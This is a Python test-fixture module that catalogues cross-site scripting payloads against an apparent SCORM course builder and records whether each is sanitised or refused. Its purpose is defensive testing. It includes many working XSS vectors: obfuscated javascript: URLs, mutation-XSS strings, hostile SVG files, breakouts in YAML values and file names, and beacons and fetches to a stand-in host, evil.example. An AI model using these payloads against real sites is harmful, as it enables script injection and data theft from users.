"""Cross-site scripting payloads (issue 13), written for these tests, and the courses they go in.

SCORM pages run inside an LMS whose origin holds the SCORM API, so a script in a lesson is a
real attack. Every payload tries to run a *marker*, not only ``alert``: ``window.top.__pwned``
set, the document title changed to ``PWNED``, a dialog opened, or a request sent to
``evil.example``. The browser tests look for every one of them.

Each payload goes to one or more *places* an author can write (lesson text, each part of a
quiz, YAML values, file names, linked files, embedded SVG) and has an expected *outcome* there:

- SANITISED: the build succeeds and the payload arrives inert (``refused`` is empty);
- REFUSED: ``bwise-mooc check`` exits 1 with an error at the payload's line whose code is one
  of ``refused``.

``sanitised_course()`` writes one course holding every SANITISED payload in every place it goes
(and a German translation holding them again); ``refused_course()`` writes one course holding
every REFUSED payload, each at a known line, with the diagnostics expected for it.
"""

import json
import posixpath
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum

from tests.conftest import COURSE_YML, FRONT, MODULE_YML

ALERT = "alert('XSS')"
PWN = "window.top.__pwned=1"
TITLE = "document.title='PWNED'"
FETCH = "fetch('https://evil.example/fetch')"
BEACON = "new Image().src='https://evil.example/beacon'"
LEAVE = "location='https://evil.example/leave'"
EVIL = "https://evil.example"
MARKER_TITLE = "PWNED"


class Place(StrEnum):
    LESSON = "lesson text"
    PROMPT = "quiz prompt"
    CHOICE = "quiz choice"
    CHOICE_FEEDBACK = "per-choice feedback"
    FEEDBACK = "general feedback"
    HINT = "hint"
    ACCEPT = "short-text answer"
    NUMBER = "numeric answer"
    YAML = "YAML value"
    FILE_NAME = "file name"
    LINKED_FILE = "linked file"
    EMBEDDED_SVG = "embedded SVG"


QUIZ_PARTS = (Place.PROMPT, Place.CHOICE, Place.CHOICE_FEEDBACK, Place.FEEDBACK, Place.HINT)
MARKDOWN_PLACES = (Place.LESSON, *QUIZ_PARTS)
TEXT_PLACES = (Place.YAML, Place.ACCEPT)  # taken as text: never Markdown, never HTML


@dataclass(frozen=True)
class Payload:
    name: str
    text: str  # what the author writes; for a file, its content
    places: tuple[Place, ...]
    refused: tuple[str, ...] = ()  # the codes, any of which refuses it; empty: SANITISED
    line: int = 0  # the line of ``text`` (0-based) where the error is reported
    file: str = ""  # file name (in the module folder) for file names, linked files, SVG

    def codes(self, place: Place) -> tuple[str, ...]:
        """The codes that refuse this payload in ``place``; empty when it must be sanitised."""
        if place in TEXT_PLACES:
            return ()
        if place is Place.NUMBER:
            return ("quiz.bad-number",)
        return self.refused

    @property
    def single_line(self) -> bool:
        return "\n" not in self.text


def _markdown(
    name: str, text: str, *refused: str, line: int = 0, lesson_only: bool = False
) -> Payload:
    """A payload written in a lesson: in the lesson text and, on one line, in every quiz part
    and (as text) in YAML values and short-text answers."""
    places: tuple[Place, ...] = (Place.LESSON,)
    if "\n" not in text and not lesson_only:
        places = (*MARKDOWN_PLACES, *TEXT_PLACES)
    elif not lesson_only and not refused:
        places = (Place.LESSON, Place.PROMPT)  # a block of several lines: the prompt's body
    return Payload(name, text, places, tuple(refused), line)


# ---- raw HTML in Markdown: sanitised by the allow-list (frames from elsewhere are refused) ----

RAW_HTML_PAYLOADS = [
    _markdown("script", f"<script>{ALERT}</script>"),
    _markdown("script-src", f'<script src="{EVIL}/x.js"></script>'),
    _markdown("img-onerror", f'<img src=x onerror="{PWN}">'),
    _markdown("svg-onload", f'<svg onload="{TITLE}">'),
    _markdown("svg-script", f"<svg><script>{PWN}</script></svg>"),
    _markdown("body-onload", f"<body onload={ALERT}>"),
    _markdown(
        "iframe-javascript", f'<iframe src="javascript:{PWN}"></iframe>', "media.frame-source"
    ),
    _markdown(
        "iframe-srcdoc", f'<iframe srcdoc="<script>parent.__pwned=1;{ALERT}</script>"></iframe>'
    ),
    _markdown(
        "iframe-data",
        f'<iframe src="data:text/html,<script>{ALERT}</script>"></iframe>',
        "media.frame-source",
    ),
    _markdown(
        "iframe-lookalike-host",
        '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x" title="Video"></iframe>',
        "media.frame-source",
    ),
    _markdown(
        "iframe-plain-http",
        '<iframe src="http://www.youtube-nocookie.com/embed/x" title="Video"></iframe>',
        "media.frame-source",
    ),
    _markdown("a-javascript", f'<a href="javascript:{ALERT}">click</a>'),
    _markdown("a-javascript-case", f'<a href="JaVaScRiPt:{PWN}">click</a>'),
    _markdown("a-entity-decimal", f'<a href="&#106;avascript:{ALERT}">click</a>'),
    _markdown(
        "a-entity-padded",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        f'&#0000112&#0000116&#0000058{TITLE}">click</a>',
    ),
    _markdown(
        "a-entity-hex",
        f'<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{PWN}">click</a>',
    ),
    _markdown("a-entity-tab", f'<a href="jav&#x09;ascript:{TITLE}">click</a>'),
    _markdown("a-entity-newline", f'<a href="jav&#x0A;ascript:{ALERT}">click</a>'),
    _markdown("a-newline", f'<a href="java\nscript:{PWN}">click</a>'),
    _markdown("a-leading-space", f'<a href="  javascript:{ALERT}">click</a>'),
    _markdown("a-zero-width", f'<a href="java&#8203;script:{ALERT}">click</a>'),
    _markdown(
        "a-data-html",
        '<a href="data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+">click</a>',
    ),
    _markdown("a-vbscript", "<a href=\"vbscript:msgbox('XSS')\">click</a>"),
    _markdown("a-blob", f'<a href="blob:{EVIL}/0b1c">click</a>'),
    _markdown("a-ping", f'<a href="https://example.org/" ping="{EVIL}/ping">Example</a>'),
    _markdown(
        "a-title-break",
        f'<a title=\'"><script>{ALERT}</script>\' href="https://example.org/">Example</a>',
    ),
    _markdown("rtl-override", f"\u202e<img src=x onerror={ALERT}>\u202c txt.exe"),
    _markdown(
        "style-url-javascript", f'<div style="background:url(javascript:{ALERT})">styled</div>'
    ),
    _markdown("style-expression", f'<div style="width: expression({ALERT})">styled</div>'),
    _markdown("style-url-host", f'<p style="background-image:url({EVIL}/bg.png)">styled</p>'),
    _markdown(
        "style-behaviour",
        f'<p style="behavior:url({EVIL}/x.htc);-moz-binding:url({EVIL}/x.xml#x)">bound</p>',
    ),
    _markdown("style-import", f"<style>@import url({EVIL}/import.css);</style>"),
    _markdown("style-tag-url", f'<style>p{{background:url("{EVIL}/p.png")}}</style>'),
    _markdown(
        "style-animation-handler",
        f'<style>@keyframes x{{}}</style><span style="animation-name:x" onanimationstart="{PWN}">x</span>',
    ),
    _markdown("object-javascript", f'<object data="javascript:{ALERT}"></object>'),
    _markdown("object-data", f'<object data="data:text/html,<script>{ALERT}</script>"></object>'),
    _markdown("embed", f'<embed src="{EVIL}/x.swf">'),
    _markdown("form-action", f'<form action="javascript:{ALERT}"><button>go</button></form>'),
    _markdown(
        "button-formaction", f'<form><button formaction="javascript:{PWN}">go</button></form>'
    ),
    _markdown("input-formaction", f'<input type="submit" formaction="{EVIL}/form" value="go">'),
    _markdown("input-autofocus", f'<input autofocus onfocus="{PWN}">'),
    _markdown(
        "select-autofocus", f'<select autofocus onfocus="{TITLE}"><option>a</option></select>'
    ),
    _markdown("details-ontoggle", f'<details open ontoggle="{FETCH}">details</details>'),
    _markdown("video-source", f'<video><source onerror="{BEACON}"></video>'),
    _markdown("video-poster", f'<video poster="{EVIL}/poster.png"></video>'),
    _markdown("audio-onerror", f'<audio src=x onerror="{PWN}">'),
    _markdown("img-srcset", f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x" alt="x">'),
    _markdown(
        "picture-srcset", f'<picture><source srcset="{EVIL}/s.png"><img src="x" alt="x"></picture>'
    ),
    _markdown("img-javascript-src", f'<img src="javascript:{ALERT}">'),
    _markdown("img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    _markdown("base-javascript", f'<base href="javascript:{ALERT}//">'),
    _markdown("base-host", f'<base href="{EVIL}/">'),
    _markdown("meta-refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">'),
    _markdown(
        "meta-refresh-javascript", f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">'
    ),
    _markdown("link-import", f'<link rel="import" href="{EVIL}/import.html">'),
    _markdown("link-stylesheet", f'<link rel="stylesheet" href="{EVIL}/style.css">'),
    _markdown("link-prefetch", f'<link rel="prefetch" href="{EVIL}/prefetch">'),
    _markdown("marquee-onstart", f'<marquee onstart="{LEAVE}">moving</marquee>'),
    _markdown("p-onmouseover", f'<p title="x" onmouseover="{TITLE}">hover</p>'),
    _markdown("div-onpointerenter", f'<div onpointerenter="{PWN}" tabindex="0">pointer</div>'),
    _markdown(
        "p-contenteditable-onfocusin", f'<p dir="rtl" contenteditable onfocusin="{PWN}">edit</p>'
    ),
    _markdown(
        "table-background", f'<table background="javascript:{ALERT}"><tr><td>x</td></tr></table>'
    ),
    _markdown("split-script", f"<scr<script>ipt>{ALERT}</scr</script>ipt>"),
    _markdown("attribute-breakout", f'"><script>{PWN}</script>'),
    _markdown("unclosed-tag", f"<img src=x onerror={ALERT}"),
    _markdown(
        "lang-attribute-breakout", f'<span lang="en&quot; onmouseover=&quot;{ALERT}">x</span>'
    ),
    # mutation XSS: namespace and raw-text confusion between the sanitiser and the browser
    _markdown("mxss-noscript", f'<noscript><p title="</noscript><img src=x onerror={ALERT}>">'),
    _markdown("mxss-svg-style", f'<svg><style><img src=x onerror="{PWN}"></style></svg>'),
    _markdown("mxss-math-style", f'<math><style><img src=x onerror="{TITLE}"></style></math>'),
    _markdown(
        "mxss-math-mglyph", f'<math><mtext><table><mglyph><style><img src=x onerror="{BEACON}">'
    ),
    _markdown(
        "mxss-form-math",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ALERT}>",
    ),
    _markdown("mxss-svg-p-style", f'<svg></p><style><a id="</style><img src=1 onerror="{PWN}">">'),
    _markdown(
        "mxss-math-textarea",
        f'<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={ALERT} src=1>">',
    ),
    _markdown(
        "mxss-template",
        f'<template><style></template><img src=x onerror="{PWN}"></style></template>',
    ),
    _markdown("mxss-textarea", f"<textarea><script>{ALERT}</script></textarea>"),
    _markdown("mxss-xmp", f'<xmp><p title="</xmp><img src=x onerror="{FETCH}">">'),
    _markdown("mxss-title", f'<title><img src=x onerror="{LEAVE}"></title>'),
    _markdown("mxss-comment", f'<!--<img src="--><img src=x onerror="{PWN}"//">'),
    _markdown("mxss-cdata", f"<![CDATA[><img src=x onerror={ALERT}>]]>"),
    _markdown(
        "mxss-svg-cdata",
        f'<svg><![CDATA[><image xlink:href="]]><img src=x onerror={ALERT}//"></svg>',
    ),
    # SVG inline in the lesson: SMIL and <use> that would write a script URL
    _markdown(
        "svg-a-xlink",
        f'<svg><a xlink:href="javascript:{ALERT}"><text x="20" y="20">x</text></a></svg>',
    ),
    _markdown(
        "svg-animate-href",
        f'<svg><a><animate attributeName="href" values="javascript:{PWN}"/><text x="20" y="20">go</text></a></svg>',
    ),
    _markdown(
        "svg-set-href",
        f'<svg><a><set attributeName="href" to="javascript:{TITLE}"/><text x="20" y="20">go</text></a></svg>',
    ),
    _markdown(
        "svg-animate-onbegin", f'<svg><animate onbegin="{PWN}" attributeName="x" dur="1s"/></svg>'
    ),
    _markdown(
        "svg-use-data",
        "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;"
        f"&lt;image href='1' onerror='{ALERT}'/&gt;&lt;/svg&gt;#x\"/></svg>",
    ),
    # text that only looks like markup
    _markdown("escaped-entities", f"&lt;script&gt;{ALERT}&lt;/script&gt;"),
    _markdown("numeric-entities", f"&#60;script&#62;{ALERT}&#60;/script&#62;"),
    _markdown("percent-encoded", "%3Cscript%3Ealert('XSS')%3C/script%3E"),
    _markdown("fullwidth-brackets", f"\uff1cscript\uff1e{ALERT}\uff1c/script\uff1e"),
    _markdown("template-syntax", "{{ 7*7 }} {% print(7*7) %} ${alert('XSS')} #{alert('XSS')}"),
    _markdown("hidden-text", '<div hidden style="display:none">hidden text</div>'),
]

# ---- Markdown syntax ----------------------------------------------------------------------

PIXEL = "media/pixel.png"  # a real picture in the module, for image payloads

MARKDOWN_PAYLOADS = [
    _markdown(
        "md-link-title-quotes", f'[Example](https://example.org/ "a\\" onmouseover=\\"{ALERT}")'
    ),
    _markdown("md-link-title-javascript", f"[Example](https://example.org/ 'javascript:{ALERT}')"),
    _markdown("md-link-text-html", f"[<img src=x onerror={ALERT}>](https://example.org/)"),
    _markdown("md-link-query-html", f"[Example](https://example.org/?q=<script>{ALERT}</script>)"),
    _markdown("md-image-title", f'![A small square]({PIXEL} "x\\" onerror=\\"{PWN}")'),
    _markdown("md-image-alt-html", f"![A square <img src=x onerror={ALERT}>]({PIXEL})"),
    _markdown("md-attrs-onclick", f"[x]{{onclick={ALERT}}}"),
    _markdown("md-attrs-quoted-handler", f'[x]{{onmouseover="{PWN}" lang=en}}'),
    _markdown("md-attrs-on-link", f"[Example](https://example.org/){{onclick={ALERT} .x #y}}"),
    _markdown("md-attrs-on-image", f"![A small square]({PIXEL}){{onerror={ALERT}}}"),
    _markdown("md-attrs-on-code", f"`code`{{onmouseover={ALERT}}}"),
    _markdown("md-attrs-lang-ok", "[Settings]{lang=en} and [Einstellungen]{lang=de dir=ltr}"),
    _markdown("code-span", f"`<script>{ALERT}</script>`"),
    _markdown(
        "code-fence",
        f"```html\n<script>{ALERT}</script>\n<img src=x onerror={PWN}>\n```",
    ),
    _markdown("code-fence-info", f'```"><script>{ALERT}</script>\n<b>x</b>\n```'),
    _markdown("code-span-link", f"`[click](javascript:{ALERT})` and `<javascript:{PWN}>`"),
    _markdown("code-fence-link", f"```\n[click](javascript:{ALERT})\n[r]: javascript:{PWN}\n```"),
    _markdown("indented-code", f"    <script>{ALERT}</script>", lesson_only=True),
    _markdown("heading-html", f"## <img src=x onerror={ALERT}> Heading", lesson_only=True),
    _markdown("heading-anchor-breakout", f'## Heading "><script>{PWN}</script>', lesson_only=True),
    _markdown("heading-attributes", f"## Heading {{#x onclick={ALERT}}}", lesson_only=True),
    _markdown(
        "table-cells",
        f'| <img src=x onerror={ALERT}> | <a href="javascript:{PWN}">x</a> |\n'
        "|:---|---:|\n"
        f'| <svg onload={ALERT}> | [y](https://example.org/ "\\" onclick={ALERT}") |\n'
        f'| <td style="background:url({EVIL}/td.png)">cell</td> | `<script>{ALERT}</script>` |',
    ),
    _markdown(
        "md-reference-title",
        f'[click][title]\n\n[title]: https://example.org/ "a\\" onmouseover=\\"{ALERT}"',
    ),
    _markdown("md-link-newline-scheme", f"[click](java\nscript:{ALERT})"),
    _markdown(
        "md-emphasis-html", f"*<img src=x onerror={ALERT}>* and **<b onmouseover={ALERT}>b</b>**"
    ),
]

# ---- Markdown links and images that are refused, with the code that refuses them ------------

REFUSED_MARKDOWN = [
    _markdown("md-link-javascript", f"[click](javascript:{ALERT})", "link.scheme"),
    _markdown("md-link-javascript-upper", f"[click](JAVASCRIPT:{PWN})", "link.scheme"),
    _markdown("md-link-vbscript", "[click](vbscript:msgbox('XSS'))", "link.scheme"),
    _markdown(
        "md-link-data",
        "[click](data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+)",
        "link.scheme",
    ),
    _markdown("md-image-javascript", f"![picture](javascript:{ALERT})", "link.scheme"),
    _markdown("md-link-angle", f"[click](<javascript:{ALERT}>)", "link.scheme"),
    _markdown("md-link-leading-space", f"[click](   javascript:{ALERT})", "link.scheme"),
    _markdown("md-link-entity-colon", f"[click](javascript&#58;{ALERT})", "link.scheme"),
    _markdown("md-link-entity-j", f"[click](&#106;avascript:{PWN})", "link.scheme"),
    _markdown(
        "md-link-entity-tab", f"[click](jav&#x09;ascript:{ALERT})", "link.scheme", "path.missing"
    ),
    _markdown(
        "md-link-zero-width", f"[click](java\u200bscript:{ALERT})", "link.scheme", "path.missing"
    ),
    _markdown(
        "md-link-rtl-override", f"[click](\u202ejavascript:{ALERT})", "link.scheme", "path.missing"
    ),
    _markdown("md-link-blob", f"[click](blob:{EVIL}/0b1c)", "link.scheme"),
    _markdown("md-link-file", "[click](file:///etc/passwd)", "link.scheme"),
    _markdown("md-link-protocol-relative", "[click](//evil.example/x.js)", "path.absolute"),
    _markdown("md-image-external", f"![picture]({EVIL}/track.png)", "media.external"),
    _markdown(
        "md-image-data-png",
        "![picture](data:image/png;base64,iVBORw0KGgo=)",
        "link.scheme",
        "media.external",
    ),
    _markdown(
        "md-image-data-svg",
        "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9dG9wLl9fcHduZWQ9MT4=)",
        "link.scheme",
    ),
    _markdown("md-autolink-javascript", f"<javascript:{ALERT}>", "link.scheme"),
    _markdown("md-autolink-vbscript", "<vbscript:msgbox('XSS')>", "link.scheme"),
    _markdown(
        "md-autolink-data",
        "<data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+>",
        "link.scheme",
    ),
    _markdown(
        "md-reference-javascript",
        f"[click][evil]\n\n[evil]: javascript:{ALERT}",
        "link.scheme",
        line=2,
    ),
    _markdown(
        "md-reference-image",
        f"![picture][evil-image]\n\n[evil-image]: javascript:{PWN}",
        "link.scheme",
        line=2,
    ),
    _markdown("md-attrs-lang-breakout", f'[x]{{lang="en\\" onmouseover=\\"{ALERT}"}}', "lang.tag"),
    _markdown("md-attrs-lang-html", f'[x]{{lang="<img src=x onerror={ALERT}>"}}', "lang.tag"),
    _markdown(
        "md-attrs-dir-breakout", f'[x]{{lang=en dir="rtl\\" onclick=\\"{ALERT}"}}', "lang.dir"
    ),
    _markdown(
        "a-control-character",
        f'<a href="java\x01script:{ALERT}">click</a>',
        "file.control-character",
        lesson_only=True,
    ),
]

# ---- YAML values: always text -------------------------------------------------------------

YAML_ONLY = [
    Payload("yaml-title-breakout", f"</title><script>{ALERT}</script>", (Place.YAML,)),
    Payload("yaml-script-breakout", f"</script><script>{PWN}</script>", (Place.YAML,)),
    Payload("yaml-script-comment", f"<!--<script>{TITLE}//", (Place.YAML,)),
    Payload("yaml-cdata-breakout", f"]]><script>{ALERT}</script><![CDATA[", (Place.YAML,)),
    Payload("yaml-attribute-double", f'" onmouseover="{PWN}" x="', (Place.YAML,)),
    Payload("yaml-attribute-single", f"' onmouseover='{TITLE}' x='", (Place.YAML,)),
    Payload("yaml-javascript-url", f"javascript:{ALERT}", (Place.YAML,)),
    Payload("yaml-json-breakout", f'"}}]}};{PWN};//', (Place.YAML,)),
    Payload("yaml-line-separators", f"a\u2028b\u2029c');{ALERT};//", (Place.YAML,)),
    Payload(
        "yaml-xml-entity", f"&lt;script&gt;{ALERT}&lt;/script&gt; &amp;lt;b&amp;gt;", (Place.YAML,)
    ),
]

# ---- files: names, linked files, SVG pictures ---------------------------------------------

PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)

_NAME = (Place.FILE_NAME,)
_BAD_NAME = "path.bad-name"  # a character Windows refuses: < > : " | ? * \\
FILE_NAMES = [  # under the module folder; a lesson links to each (or shows it, for media/)
    Payload("name-linked-attribute", f"files/' onmouseover='{PWN}' x='.pdf", _NAME),
    Payload("name-linked-entities", f"files/&#x3c;img src=x onerror={ALERT}&#x3e;.pdf", _NAME),
    Payload("name-linked-percent", f"files/%3Cscript%3E{ALERT}%3C%2Fscript%3E.pdf", _NAME),
    Payload("name-linked-rtl", "files/\u202efdp.sj.pdf", _NAME),
    Payload("name-image-attribute", f"media/' onerror='{TITLE}' x='.png", _NAME),
    Payload("name-image-entities", f"media/&lt;svg onload={ALERT}&gt;.png", _NAME),
    Payload("name-linked-img", f'files/"><img src=x onerror={ALERT}>.pdf', _NAME, (_BAD_NAME,)),
    Payload("name-linked-script", f"files/<script>{PWN}<\u2215script>.pdf", _NAME, (_BAD_NAME,)),
    Payload("name-linked-javascript", f"javascript:{ALERT}.pdf", _NAME, (_BAD_NAME,)),
    Payload("name-image-svg-onload", f"media/<svg onload={ALERT}>.png", _NAME, (_BAD_NAME,)),
    Payload("name-lesson", f"09-<svg onload={ALERT}>.md", _NAME, ("lesson.bad-name", _BAD_NAME)),
    Payload("name-lesson-quote", f"09-' onmouseover='{ALERT}.md", _NAME, ("lesson.bad-name",)),
    Payload(
        "name-module",
        f"../02-<img src=x onerror={ALERT}>/01-lesson.md",
        _NAME,
        ("module.bad-name", _BAD_NAME),
    ),
]

_HTML_FILE = f"<!doctype html><title>x</title><script>{PWN};{ALERT}</script>"
LINKED_FILES = [
    Payload(
        "linked-html", _HTML_FILE, (Place.LINKED_FILE,), ("link.file-type",), file="files/page.html"
    ),
    Payload(
        "linked-htm", _HTML_FILE, (Place.LINKED_FILE,), ("link.file-type",), file="files/page.htm"
    ),
    Payload(
        "linked-html-upper",
        _HTML_FILE,
        (Place.LINKED_FILE,),
        ("link.file-type",),
        file="files/PAGE.HTML",
    ),
    Payload(
        "linked-shtml",
        _HTML_FILE,
        (Place.LINKED_FILE,),
        ("link.file-type",),
        file="files/page.shtml",
    ),
    Payload(
        "linked-xhtml",
        f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>{PWN}</script></body></html>',
        (Place.LINKED_FILE,),
        ("link.file-type",),
        file="files/page.xhtml",
    ),
    Payload(
        "linked-xht",
        f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>{PWN}</script></body></html>',
        (Place.LINKED_FILE,),
        ("link.file-type",),
        file="files/page.xht",
    ),
    Payload(
        "linked-xml",
        f'<?xml version="1.0"?><x><script xmlns="http://www.w3.org/1999/xhtml">{PWN}</script></x>',
        (Place.LINKED_FILE,),
        ("link.file-type",),
        file="files/data.xml",
    ),
    Payload(
        "linked-js",
        f"{PWN};{ALERT};",
        (Place.LINKED_FILE,),
        ("link.file-type",),
        file="files/code.js",
    ),
    Payload(
        "linked-mjs", f"{PWN};", (Place.LINKED_FILE,), ("link.file-type",), file="files/code.mjs"
    ),
    Payload(
        "linked-css",
        f"@import url({EVIL}/x.css); body{{background:url({EVIL}/b.png)}}",
        (Place.LINKED_FILE,),
        ("link.file-type",),
        file="files/style.css",
    ),
    Payload(
        "linked-svgz",
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"/>',
        (Place.LINKED_FILE,),
        ("link.file-type",),
        file="files/picture.svgz",
    ),
    Payload(
        "linked-html-query",
        _HTML_FILE,
        (Place.LINKED_FILE,),
        ("link.file-type",),
        file="files/query.html?download=form.pdf",
    ),
    Payload(
        "linked-html-fragment",
        _HTML_FILE,
        (Place.LINKED_FILE,),
        ("link.file-type",),
        file="files/fragment.html#form.pdf",
    ),
    Payload(
        "linked-no-extension",
        _HTML_FILE,
        (Place.LINKED_FILE,),
        ("link.file-type",),
        file="files/handout",
    ),
    Payload("linked-pdf", PDF.decode(), (Place.LINKED_FILE,), file="files/handout.pdf"),
]

SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_BOTH = (Place.LINKED_FILE, Place.EMBEDDED_SVG)


def _svg(name: str, body: str, *refused: str, head: str = "") -> Payload:
    text = f'{head}<svg {SVG_NS} width="40" height="40">{body}</svg>\n'
    return Payload(name, text, _BOTH, tuple(refused), file=f"{name}.svg")


SVG_PAYLOADS = [
    _svg("svg-file-script", f"<script>{PWN}</script>", "media.unsafe-svg"),
    _svg("svg-file-script-href", f'<script href="{EVIL}/x.js"/>', "media.unsafe-svg"),
    _svg("svg-file-onload", f'<rect width="9" height="9" onload="{PWN}"/>', "media.unsafe-svg"),
    _svg(
        "svg-file-animate",
        f'<a><animate attributeName="href" values="javascript:{PWN}"/><text y="20">go</text></a>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-set",
        f'<a><set attributeName="href" to="javascript:{TITLE}"/><text y="20">go</text></a>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-entity",
        '<text y="20">&x;</text>',
        "media.unsafe-svg",
        head=f'<!DOCTYPE svg [<!ENTITY x "&lt;script&gt;{PWN}&lt;/script&gt;">]>',
    ),
    _svg("svg-file-import", f"<style>@import url({EVIL}/x.css);</style>", "media.unsafe-svg"),
    _svg(
        "svg-file-external-url",
        f'<rect width="9" height="9" style="fill:url({EVIL}/p.svg#p)"/>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-foreign-object",
        f'<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{PWN}"/></foreignObject>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-xlink-javascript",
        f'<a xlink:href="javascript:{ALERT}"><text y="20">x</text></a>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-use-data",
        '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiBvbmxvYWQ9InRvcC5fX3B3bmVkPTEiLz4=#x"/>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-image-host",
        f'<image href="{EVIL}/i.png" width="9" height="9"/>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-handler",
        f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{PWN}</handler>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-css-escaped-import",
        f"<style>@\\69mport url({EVIL}/x.css);</style>",
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-css-escaped-url",
        f'<rect width="9" height="9" style="fill:u\\72l({EVIL}/p.svg#p)"/>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-fill-url",
        f'<rect width="9" height="9" fill="url({EVIL}/p.svg#p)"/>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-font-face",
        f'<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}</style><text style="font-family:x" y="20">x</text>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-image-set",
        f'<style>svg{{background-image:image-set("{EVIL}/i.png" 1x)}}</style>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-image-data-svg",
        '<image width="9" height="9" href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idG9wLl9fcHduZWQ9MSIvPg=="/>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-a-entity-tab",
        f'<a href="jav&#x09;ascript:{ALERT}"><text y="20">x</text></a>',
        "media.unsafe-svg",
    ),
    _svg("svg-file-use-external", '<use href="other.svg#x"/>', "media.unsafe-svg"),
    _svg(
        "svg-file-xhtml-script",
        f'<html:script xmlns:html="http://www.w3.org/1999/xhtml">{PWN}</html:script>',
        "media.unsafe-svg",
    ),
    _svg(
        "svg-file-stylesheet-pi",
        '<rect width="9" height="9"/>',
        "media.unsafe-svg",
        head=f'<?xml-stylesheet type="text/css" href="{EVIL}/pi.css"?>',
    ),
    # inert once checked and written out again: nothing in them may run or load
    _svg(
        "svg-file-text",
        f"<title>&lt;script&gt;{ALERT}&lt;/script&gt;</title><!-- <script>{PWN}</script> -->"
        f'<text y="20"><![CDATA[<img src=x onerror={ALERT}>]]></text>',
    ),
    _svg("svg-file-web-link", '<a href="https://example.org/"><text y="20">web</text></a>'),
    _svg(
        "svg-file-local-paint",
        '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>'
        '<rect width="9" height="9" fill="url(#g)" style="fill:url(#g)"/><use href="#g"/>',
    ),
    _svg(
        "svg-file-editor-data",
        f'<metadata><script xmlns="http://www.w3.org/1999/xhtml">{PWN}</script></metadata>'
        f'<g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:label="&lt;script&gt;{ALERT}&lt;/script&gt;"/>',
    ),
]

PAYLOADS = [
    *RAW_HTML_PAYLOADS,
    *MARKDOWN_PAYLOADS,
    *REFUSED_MARKDOWN,
    *YAML_ONLY,
    *FILE_NAMES,
    *LINKED_FILES,
    *SVG_PAYLOADS,
]


def placements() -> Iterator[tuple[Payload, Place]]:
    """Every (payload, place) the catalogue holds."""
    for payload in PAYLOADS:
        for place in payload.places:
            yield payload, place
    for payload in NUMBER_PAYLOADS:
        yield payload, Place.NUMBER


NUMBER_PAYLOADS = [
    p for p in RAW_HTML_PAYLOADS if p.name in {"script", "img-onerror", "svg-onload"}
]


def summary() -> Counter[tuple[str, str]]:
    """How many payloads go to each place, by expected outcome."""
    return Counter(
        (str(place), "REFUSED" if payload.codes(place) else "SANITISED")
        for payload, place in placements()
    )


def sanitised(place: Place) -> list[Payload]:
    return [p for p, where in placements() if where is place and not p.codes(place)]


def refused(place: Place) -> list[Payload]:
    return [p for p, where in placements() if where is place and p.codes(place)]


# ---- the courses --------------------------------------------------------------------------

MODULE = "modules/01-xss"


def _png() -> bytes:
    from io import BytesIO

    from PIL import Image

    buffer = BytesIO()
    Image.new("RGB", (8, 8), (200, 40, 40)).save(buffer, "PNG")
    return buffer.getvalue()


PNG = _png()


@dataclass(frozen=True)
class Spot:
    """Where one payload was written: lines ``first`` to ``last`` (1-based) of ``path``."""

    payload: Payload
    place: Place
    path: str
    first: int
    last: int

    def holds(self, path: str, line: int) -> bool:
        return path == self.path and self.first <= line <= self.last


Skip = frozenset[tuple[str, Place, str]]  # (payload name, place, file) left out of a course


class _Lines:
    """A source file written line by line, remembering where each payload went."""

    def __init__(self, path: str, spots: list[Spot], skip: Skip = frozenset()) -> None:
        self.path = path
        self.lines: list[str] = []
        self.spots = spots
        self.skip = skip

